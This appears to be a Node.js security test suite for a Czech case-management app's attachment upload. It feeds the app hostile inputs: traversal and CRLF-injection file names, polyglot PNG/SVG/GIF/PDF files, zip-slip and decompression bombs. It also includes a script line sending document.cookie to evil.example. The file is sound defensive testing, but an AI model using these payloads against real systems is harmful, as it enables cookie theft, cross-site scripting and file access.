// Attachments as attackers send them: names that climb, pictures that are pages, files without end.
import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { crc32, deflateSync } from "node:zlib";
import { openCase } from "../lib/cases.mjs";
import { zip } from "../lib/files.mjs";
import { databases, serve } from "../lib/okrsek.mjs";
import { signIn } from "../lib/people.mjs";

/** A PNG of one colour (ISO/IEC 15948), with a text chunk as cameras write their place into. */
function png(width = 8, height = 8, said = "GPS 49.7437 13.3740") {
  const chunk = (kind, body) => {
    const named = Buffer.concat([Buffer.from(kind, "latin1"), body]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(body.length);
    check.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, check]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.concat(Array.from({ length: Math.min(height, 64) }, () => Buffer.concat([Buffer.from([0]), Buffer.alloc(Math.min(width, 64) * 3, 90)])));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk("IHDR", head), chunk("tEXt", Buffer.from(`Comment\0${said}`, "latin1")),
    chunk("IDAT", deflateSync(rows)), chunk("IEND", Buffer.alloc(0)),
  ]);
}

const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";

for (const { name, withDemo } of databases) {
  describe(name, () => {
    let [server, visitor, path] = [];
    before(async () => {
      server = await serve(withDemo(), {}, { demo: true });
      visitor = await signIn(server, "department", "coordinator");
      path = await openCase(visitor, "Soubory na zkoušku");
    });

    async function attach(called, bytes, type = "application/octet-stream") {
      const form = (await visitor.get(path)).html.form(/\/prilohy$/);
      const [field] = form.files;
      return visitor.send(form, {}, { files: { [field.name]: { name: called, type, bytes } }, follow: false });
    }

    /** Addresses of the files of the case, newest last. */
    async function attached() {
      const { html } = await visitor.get(path);
      return html.links.filter((link) => /\/prilohy\/[0-9a-z]{13}$/.test(link));
    }

    async function attachAndFetch(called, bytes, type) {
      const before = new Set(await attached());
      const answer = await attach(called, bytes, type);
      assert.equal(answer.status, 303, `${called}: ${answer.status} ${answer.body.slice(0, 200)}`);
      const [link] = (await attached()).filter((one) => !before.has(one));
      assert.ok(link, `${called} is on the page`);
      return { link, got: await visitor.ask(link) };
    }

    /** Whatever it is, no browser takes it for a page of ours. */
    function assertInert(got, what) {
      assert.equal(got.status, 200, what);
      assert.equal(got.headers.get("x-content-type-options"), "nosniff", what);
      assert.doesNotMatch(got.type, /html|xml|svg|javascript/i, what);
      assert.match(got.headers.get("content-security-policy") ?? "", /default-src 'none'|sandbox/, what);
      assert.match(got.headers.get("content-disposition") ?? "", /^attachment|^inline/, what);
      if (!/^image\/(png|jpeg|webp)/.test(got.type)) assert.match(got.headers.get("content-disposition"), /^attachment/, what);
    }

    test("names that climb, lie or break headers become plain names", async () => {
      const names = ["../../../etc/passwd.txt", "..\\..\\windows\\system32\\cmd.txt", "/etc/shadow.txt", "a\r\nSet-Cookie: x=1.txt", 'a"; filename="b.html', "nul\u0000.txt", "\u202etxt.exe", "....//....//x.txt", "C:\\x.txt", "ž".repeat(400) + ".txt", ".htaccess", "%2e%2e%2fpasswd.txt", "<img src=x onerror=okrsek()>.txt"];
      for (const called of names) {
        const answer = await attach(called, Buffer.from("Obyčejný text.\n"), "text/plain");
        assert.ok([303, 400, 422].includes(answer.status), `${JSON.stringify(called)}: ${answer.status}`);
      }
      for (const link of await attached()) {
        const got = await visitor.ask(link);
        const disposition = got.headers.get("content-disposition");
        assert.doesNotMatch(disposition, /[\\/]|\.\.|%2f|%5c/i, disposition);
        assert.equal(got.headers.get("set-cookie"), null);
        assertInert(got, link);
      }
      const page = await visitor.get(path);
      assert.equal(page.html.find("img", { onerror: true }).length, 0);
    });

    test("a picture that is also a page is a picture only", async () => {
      const { got } = await attachAndFetch("foto.png", Buffer.concat([png(), Buffer.from(SCRIPT)]), "image/png");
      assertInert(got, "polyglot PNG");
      assert.match(got.type, /^image\//);
      assert.ok(!got.bytes.includes("<script>"), "what came after the picture is gone");
      assert.ok(!got.bytes.includes("GPS 49.7437"), "and what the camera wrote into it");
    });

    test("what says it is a picture and is a page is no picture", async () => {
      const cases = {
        "page.png": [Buffer.from(`<!doctype html>${SCRIPT}`), "image/png"],
        "drawing.svg": [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="okrsek()">${SCRIPT}</svg>`), "image/svg+xml"],
        "gif-script.gif": [Buffer.from(`GIF89a/*${SCRIPT}*/=1;okrsek()`), "image/gif"],
        "paper.pdf": [Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${SCRIPT}`), "application/pdf"],
        "packed.zip": [zip("../../../evil.html", Buffer.from(SCRIPT)), "application/zip"],
        "program.exe": [Buffer.from("MZ\u0090\0 this program cannot be run"), "application/x-msdownload"],
        "script.html": [Buffer.from(SCRIPT), "text/html"],
        "empty.txt": [Buffer.alloc(0), "text/plain"],
      };
      for (const [called, [bytes, type]] of Object.entries(cases)) {
        const before = new Set(await attached());
        const answer = await attach(called, bytes, type);
        assert.ok([303, 422].includes(answer.status), `${called}: ${answer.status}`);
        if (answer.status === 422) assert.match(answer.html.words, /soubor|příloh|obráz/i, `${called} is refused with a sentence`);
        for (const link of (await attached()).filter((one) => !before.has(one))) assertInert(await visitor.ask(link), called);
      }
    });

    test("a broken or bloated picture is refused with a sentence and costs no memory", async () => {
      const bomb = png(60_000, 60_000);
      for (const [called, bytes] of [["cut.png", png().subarray(0, 40)], ["bomb.png", bomb], ["cut.jpg", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46])]]) {
        const answer = await attach(called, bytes, "image/png");
        assert.equal(answer.status, 422, `${called}: ${answer.status}`);
        assert.match(answer.html.words, /obráz|soubor/i);
      }
      assert.equal((await visitor.get("/staff")).status, 200);
    });

    test("a file that is too large is refused with 413 and a sentence, and nothing is kept", async () => {
      const before = await attached();
      const large = await attach("video.bin", Buffer.alloc(30 << 20, 7));
      assert.equal(large.status, 413);
      assert.match(large.html.words, /velk|MB/i);
      const form = await visitor.ask("/staff/pripady/novy/lodging-referral", { method: "POST", body: `title=${"a".repeat(3 << 20)}`, headers: { "content-type": "application/x-www-form-urlencoded" } });
      assert.equal(form.status, 413);
      assert.deepEqual(await attached(), before);
    });

    test("broken bodies are refused, not feared", async () => {
      const target = `${path}/prilohy`;
      const type = "multipart/form-data; boundary=x";
      const bodies = {
        "no boundary": ["--x\r\n\r\n", "multipart/form-data"],
        "never ends": ["--x\r\ncontent-disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\nabc", type],
        "no name": ["--x\r\ncontent-disposition: form-data\r\n\r\nabc\r\n--x--\r\n", type],
        "a header without end": [`--x\r\n${"h".repeat(100_000)}`, type],
        "nothing": ["", type],
        "a thousand parts": [Array.from({ length: 1000 }, (_, at) => `--x\r\ncontent-disposition: form-data; name="f${at}"\r\n\r\n1\r\n`).join("") + "--x--\r\n", type],
        "another kind": ["{}", "application/json"],
      };
      for (const [what, [body, contentType]] of Object.entries(bodies)) {
        const { status } = await visitor.ask(target, { method: "POST", body, headers: { "content-type": contentType } });
        assert.ok(status >= 400 && status < 500, `${what}: ${status}`);
      }
    });

    test("another body downloads nothing, not even with the address", async () => {
      const { link } = await attachAndFetch("tajne.txt", Buffer.from("Jen pro odbor.\n"), "text/plain");
      const stranger = await signIn(server, "education", "coordinator");
      assert.equal((await stranger.ask(link)).status, 404);
      assert.equal((await stranger.ask(`${link}/nahled`)).status, 404);
    });
  });
}
